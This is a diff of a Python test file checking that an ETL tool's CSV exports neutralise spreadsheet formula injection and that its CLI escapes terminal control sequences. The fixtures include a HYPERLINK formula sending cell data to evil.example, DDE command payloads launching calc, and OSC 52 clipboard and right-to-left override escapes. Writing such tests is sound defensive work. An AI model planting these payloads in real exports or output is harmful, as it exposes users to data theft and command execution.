@@ -20,7 +20,7 @@ from etl.sandbox import Limits, Sandbox
 from tests.conftest import run_cxkpi
 
 FORMULAS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -34,8 +34,9 @@ ESCAPES = "\x1b]52;c;aGFja2Vk\x07 thanks \x1b[2J\x9b31m \u202eevil"
 def literal(text: str) -> str:
     """A SQL expression for text, with control characters built by chr()."""
     return " || ".join(
-        f"chr({ord(c)})" if ord(c) < 32 or 127 <= ord(c) < 160 or c == "\u202e" else
-        "'" + c.replace("'", "''") + "'"
+        f"chr({ord(c)})"
+        if ord(c) < 32 or 127 <= ord(c) < 160 or c == "\u202e"
+        else "'" + c.replace("'", "''") + "'"
         for c in text
     )
 
@@ -59,8 +60,8 @@ def test_formula_cells_in_a_csv_download_are_neutralised(sandbox):
 
 
 def test_a_formula_in_a_column_name_is_neutralised_too(sandbox):
-    data, _, _ = sandbox.download('SELECT 1 AS "=cmd|\' /C calc\'!A0"', "csv")
-    assert data.decode().splitlines()[0] == "\"'=cmd|' /C calc'!A0\""
+    data, _, _ = sandbox.download("SELECT 1 AS \"=cmd|' /C calc'!A0\"", "csv")
+    assert next(csv.reader(io.StringIO(data.decode()))) == ["'=cmd|' /C calc'!A0"]
 
 
 def test_raw_csv_and_parquet_keep_values_exact(sandbox):
@@ -92,7 +93,7 @@ def test_cxkpi_sql_table_shows_control_characters_escaped(sample_db):
 
 
 def test_a_column_name_with_escapes_is_shown_escaped(sample_db):
-    query = f"SELECT 1 AS \"{chr(27)}[2Jname\""
+    query = f'SELECT 1 AS "{chr(27)}[2Jname"'
     result = CliRunner().invoke(cli, ["--db", str(sample_db), "sql", query])
     assert result.exit_code == 0, result.output
     assert "\x1b" not in result.output and "\\x1b[2Jname" in result.output
